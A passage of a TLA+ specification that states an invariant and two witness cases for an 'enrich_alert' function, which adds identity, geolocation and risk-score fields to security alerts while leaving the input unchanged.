EnrichNext ==
    \/ LookupIdentity
    \/ LookupGeo
    \/ ScoreAndMerge

SpecEnrich == EnrichInit /\ [][EnrichNext]_vars

\* C8: enrich_alert leaves the input alert as it was; the mapping returned
\* has every key of the input; a key that is no enrichment key keeps the
\* input's value; the nine enrichment keys are set from the lookups; the geo
\* lookup is called only when src_ip is present and non-empty.
C8_EnrichFrame ==
    /\ alert = alert_in
    /\ Len(geo_calls) <= 1
    /\ Len(geo_calls) = 1 =>
          /\ "src_ip" \in DOMAIN alert_in
          /\ alert_in.src_ip \notin {None, ""}
          /\ geo_calls[1] = alert_in.src_ip
    /\ e_pc = "returned" =>
          /\ DOMAIN enriched = DOMAIN alert_in \cup EnrichmentKeys
          /\ \A k \in DOMAIN alert_in \ EnrichmentKeys : enriched[k] = alert_in[k]
          /\ enriched.user_email = identity_data.email
          /\ enriched.user_department = identity_data.department
          /\ enriched.user_status = identity_data.status
          /\ enriched.mfa_enabled = identity_data.mfa_enabled
          /\ enriched.last_login = identity_data.last_login
          /\ enriched.geo_country =
                (IF "country" \in DOMAIN geo_data THEN geo_data.country ELSE None)
          /\ enriched.geo_city =
                (IF "city" \in DOMAIN geo_data THEN geo_data.city ELSE None)
          /\ enriched.risk_score = risk_score
          /\ enriched.risk_score \in {0, 20, 40, 60, 80, 100}
          /\ enriched.enrichment_env = api_config.env

\* C8 witness: an alert that already carried risk_score = 999 and a
\* hostname, with a source address, came back with its hostname, a freshly
\* computed risk_score and the geo fields of the one lookup made.
C8_Witness ==
    /\ e_pc = "returned"
    /\ DOMAIN alert_in = AlertKeys
    /\ alert_in.risk_score = 999
    /\ enriched.hostname = "ip-10-0-5-12"
    /\ enriched.risk_score = 40
    /\ geo_calls = <<"8.8.8.8">>
    /\ enriched.geo_country = "FR"

\* C8 witness, second case: an alert with an empty src_ip was enriched with
\* no geo lookup made.
C8_WitnessNoGeo ==
    /\ e_pc = "returned"
    /\ "src_ip" \in DOMAIN alert_in
    /\ alert_in.src_ip = ""
    /\ geo_calls = <<>>
    /\ enriched.geo_country = None

====
